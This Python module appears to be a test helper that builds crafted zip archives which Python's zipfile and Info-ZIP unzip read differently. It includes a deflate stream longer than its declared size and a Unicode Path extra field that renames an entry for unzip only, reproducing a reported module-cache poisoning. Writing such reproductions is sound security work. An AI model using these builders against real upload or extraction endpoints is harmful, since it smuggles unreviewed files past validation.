"""Request zips that Python's zipfile and Info-ZIP `unzip` read differently (issue 15, finding
1): the two ways a review poisoned the endpoint's module cache. Built byte by byte.

    longer_stream(entries, name, evil)   NAME's deflate stream inflates to its content + EVIL;
                                         its headers (size, CRC) describe the content alone
    unicode_rename(entries, alias, name, evil)
                                         one more entry ALIAS whose Info-ZIP Unicode Path extra
                                         field (0x7075) renames it to NAME, for unzip only
    unzip_read(data)                     {name: content} as the real `unzip` extracts it
"""

from __future__ import annotations

import os
import struct
import subprocess
import tempfile
import zlib
from collections.abc import Mapping
from pathlib import Path

_VERSION = 20


def _entry(name: bytes, stream: bytes, method: int, crc: int, size: int, offset: int,
           extra: bytes = b"") -> tuple[bytes, bytes]:
    """(local header + data, central directory record) of one entry."""
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, _VERSION, 0, method, 0, 0x21, crc,
                        len(stream), size, len(name), len(extra)) + name + extra + stream
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x0300 | _VERSION, _VERSION, 0,
                          method, 0, 0x21, crc, len(stream), size, len(name), len(extra), 0, 0,
                          0, 0o100644 << 16, offset) + name + extra
    return local, central


def _deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def _archive(parts: list[tuple[bytes, bytes]]) -> bytes:
    body = b"".join(local for local, _ in parts)
    central = b"".join(c for _, c in parts)
    return body + central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts),
                                        len(central), len(body), 0)


def _build(entries: Mapping[str, bytes], special: Mapping[str, tuple[bytes, int, int, bytes]]
           ) -> bytes:
    """ENTRIES deflated honestly, except SPECIAL: name -> (stream, crc, size, extra)."""
    parts: list[tuple[bytes, bytes]] = []
    offset = 0
    for name, content in entries.items():
        if name in special:
            stream, crc, size, extra = special[name]
        else:
            stream, crc, size, extra = _deflate(content), zlib.crc32(content), len(content), b""
        local, central = _entry(name.encode(), stream, 8, crc, size, offset, extra)
        parts.append((local, central))
        offset += len(local)
    return _archive(parts)


def longer_stream(entries: Mapping[str, bytes], name: str, evil: bytes) -> bytes:
    """A zip of ENTRIES in which NAME's deflate stream carries content + EVIL while its
    headers declare the size and CRC of the content alone."""
    content = entries[name]
    return _build(entries, {name: (_deflate(content + evil), zlib.crc32(content),
                                   len(content), b"")})


def unicode_rename(entries: Mapping[str, bytes], alias: str, name: str, evil: bytes) -> bytes:
    """A zip of ENTRIES plus ALIAS (content EVIL) whose Unicode Path extra field names it NAME:
    unzip extracts EVIL as NAME (over the real NAME); zipfile sees an entry ALIAS."""
    upath = struct.pack("<BI", 1, zlib.crc32(alias.encode())) + name.encode()
    extra = struct.pack("<HH", 0x7075, len(upath)) + upath
    return _build({**entries, alias: evil},
                  {alias: (_deflate(evil), zlib.crc32(evil), len(evil), extra)})


def unzip_read(data: bytes) -> dict[str, bytes]:
    """What the real Info-ZIP `unzip` (the server's) extracts from DATA: {path: content}."""
    with tempfile.TemporaryDirectory() as tmp:
        zpath = Path(tmp) / "r.zip"
        zpath.write_bytes(data)
        out = Path(tmp) / "out"
        subprocess.run(["unzip", "-qq", "-o", "-d", str(out), str(zpath)],
                       capture_output=True, check=False)
        found = {}
        for root, _dirs, files in os.walk(out):
            for f in files:
                p = Path(root) / f
                found[str(p.relative_to(out))] = p.read_bytes()
        return found
